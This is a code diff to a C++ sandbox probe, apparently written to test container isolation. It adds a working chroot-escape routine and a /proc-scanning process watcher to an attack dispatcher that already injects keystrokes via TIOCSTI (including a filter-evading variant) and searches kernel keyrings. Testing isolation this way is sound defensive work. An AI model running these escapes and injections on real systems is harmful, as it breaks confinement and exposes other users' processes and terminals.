@@ -17,6 +17,7 @@
 #include <fstream>
 #include <iostream>
 #include <iterator>
+#include <set>
 #include <sstream>
 #include <string>
 
@@ -139,8 +140,51 @@ json signals_blocked() {
     return result;
 }
 
+/// Climbs out of a mere chroot(2): into another one below while a directory above it is open, then
+/// up until there is no more, and there the next one.
+/// @return 0 when `file` can be read from there
+int leave_root(const char* file) {
+    const int top = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    bool out = ::mkdir("/tmp/jail", 0755) == 0 && ::chroot("/tmp/jail") == 0 && ::fchdir(top) == 0;
+    for (int i = 0; out && i < 64; ++i) {
+        out = ::chdir("..") == 0;
+    }
+    return out && ::chroot(".") == 0 && ::access(file, R_OK) == 0 ? 0 : 1;
+}
+
+/// Looks at every process but itself again and again until it is ended: what /proc shows of its
+/// working directory, its root and its descriptors, each once, is in `file`.
+int watch_processes(const char* file) {
+    const std::string own = std::to_string(::getpid());
+    std::set<std::string> seen;
+    std::ofstream out(file);
+    const auto look_at = [&](const fs::path& link) {
+        std::error_code error;
+        const std::string target = fs::read_symlink(link, error).native();
+        if (!error && seen.insert(target).second) {
+            out << target << std::endl;
+        }
+    };
+    while (out) {
+        for (const json& name : names_in("/proc")) {
+            const fs::path process = fs::path("/proc") / name.get_ref<const std::string&>();
+            if (process.filename() == own || !fs::exists(process / "fd")) {
+                continue;
+            }
+            look_at(process / "cwd");
+            look_at(process / "root");
+            for (const json& fd : names_in(process / "fd")) {
+                look_at(process / "fd" / fd.get_ref<const std::string&>());
+            }
+        }
+    }
+    return 1;
+}
+
 /// What an attacker does: `probe type-into-terminal` pushes characters into the terminal that is
-/// its standard input, `probe find-key NAME` looks for a key that its session possesses.
+/// its standard input, `probe find-key NAME` looks for a key that its session possesses,
+/// `probe leave-root FILE` looks for a file of the host, `probe watch-processes FILE` for whoever
+/// comes into its container.
 /// @return 0 when it worked
 int attack(const std::string& how, const char* what) {
     if (how == "type-into-terminal") {
@@ -148,6 +192,12 @@ int attack(const std::string& how, const char* what) {
         const long plain = ::syscall(SYS_ioctl, 0, TIOCSTI, &character);
         const long disguised = ::syscall(SYS_ioctl, 0, TIOCSTI | 1UL << 32U, &character);
         return plain == 0 || disguised == 0 ? 0 : 1;
+    }
+    if (how == "watch-processes" && what != nullptr) {
+        return watch_processes(what);
+    }
+    if (how == "leave-root" && what != nullptr) {
+        return leave_root(what);
     }
     if (how == "find-key" && what != nullptr) {
         const long key =
@@ -161,7 +211,9 @@ int attack(const std::string& how, const char* what) {
 
 int main(int argc, char** argv) {
     const std::string first = argc > 1 ? argv[1] : "";
-    if (first == "type-into-terminal" || first == "find-key") {
+    const std::set<std::string> attacks = {"type-into-terminal", "find-key", "leave-root",
+                                           "watch-processes"};
+    if (attacks.contains(first)) {
         return attack(first, argc > 2 ? argv[2] : nullptr);
     }
     std::array<char, 256> hostname{};
